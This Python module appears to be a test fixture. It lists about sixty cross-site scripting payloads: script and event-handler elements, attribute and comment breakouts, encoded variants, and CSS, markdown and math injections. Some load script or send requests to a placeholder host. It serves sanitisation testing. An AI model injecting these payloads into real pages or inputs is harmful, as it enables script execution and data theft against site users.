"""Sixty strings that become scripts, requests or elements wherever a page takes them for more than text.

A script of theirs calls `xss()`; a request of theirs goes to `FOREIGN`.
"""

from __future__ import annotations

FOREIGN = "evil.invalid"
"""A host that does not exist."""

HOSTILE = (
    # elements
    "<script>xss()</script>",
    "</script><script>xss()</script>",
    "<ScRiPt src=//evil.invalid/1.js></sCrIpT>",
    "<script/src=//evil.invalid/2.js></script>",
    "<script\n>xss()</script\n>",
    "<<script>xss()//<</script>",
    "<img src=x onerror=xss()>",
    "<img/src=x/onerror=xss()//",
    "<img src=//evil.invalid/3.png>",
    "<IMG SRC=`javascript:xss()`>",
    "<svg onload=xss()>",
    "<svg/onload=xss()//",
    "<svg><script>xss()</script></svg>",
    "<svg><animate onbegin=xss() attributeName=x dur=1s>",
    "<svg><foreignObject><body onload=xss()></foreignObject></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=xss()>",
    "<iframe src=javascript:xss()></iframe>",
    "<iframe srcdoc='<script>parent.xss()</script>'></iframe>",
    "<object data=//evil.invalid/4></object>",
    "<embed src=//evil.invalid/5>",
    "<link rel=stylesheet href=//evil.invalid/6.css>",
    "<link rel=prefetch href=//evil.invalid/7>",
    "<base href=//evil.invalid/>",
    "<meta http-equiv=refresh content='0;url=//evil.invalid/8'>",
    "<style>@import '//evil.invalid/9.css';</style>",
    "<style>*{background:url(//evil.invalid/10)}</style>",
    "<body onload=xss()>",
    "<details open ontoggle=xss()>",
    "<input autofocus onfocus=xss()>",
    "<select autofocus onfocus=xss()>",
    "<video src=x onerror=xss()></video>",
    "<audio src=//evil.invalid/11 onerror=xss()></audio>",
    "<form action=//evil.invalid/12><button autofocus onfocus=xss()>",
    "<a href=javascript:xss()>here</a>",
    "<template><script>xss()</script></template>",
    "<custom-element onclick=xss() is=x>",
    "<b>bold</b><table><tr><td>cell",
    # ways out of where they stand
    '"><script>xss()</script>',
    "'><script>xss()</script>",
    '" onmouseover="xss()" autofocus onfocus="xss()" x="',
    "' onmouseover='xss()' autofocus onfocus='xss()' x='",
    "` onmouseover=xss() x=`",
    "--><script>xss()</script><!--",
    "<!--><img src=x onerror=xss()>-->",
    "]]><script>xss()</script><![CDATA[",
    "</style><script>xss()</script>",
    "</title></textarea></pre></div></table><img src=x onerror=xss()>",
    "</svg></text></desc><img src=x onerror=xss()>",
    "#fff;background:url(//evil.invalid/13);x:expression(xss())",
    "\"><svg xmlns='http://www.w3.org/2000/svg' onload='xss()'/>",
    "');xss();//",
    "${xss()}{{xss()}}<%= xss() %>@label{safe}",
    # what is taken for text that was escaped, for a drawing, for mathematics
    "&lt;script&gt;xss()&lt;/script&gt;",
    "&#60;img src=x onerror=xss()&#62;",
    "\\u003cscript\\u003exss()\\u003c/script\\u003e",
    "%3Cscript%3Exss()%3C/script%3E",
    "\x00<scr\x00ipt>xss()</scr\x00ipt>\u202e\u2066<img src=x onerror=xss()>",
    "$\\href{javascript:xss()}{x}$ and $\\class{nbray-live}{y}$",
    "$$\\require{html}\\href{//evil.invalid/14}{x}$$",
    "[x](javascript:xss()) ![x](//evil.invalid/15) <http://evil.invalid/16>",
)


def tamed(text: str) -> str:
    """The same without what is special in HTML and in mathematics: shown, it has the same elements around it."""
    return text.translate(str.maketrans("<>&\"'$`\\", "xxxxxxxx"))
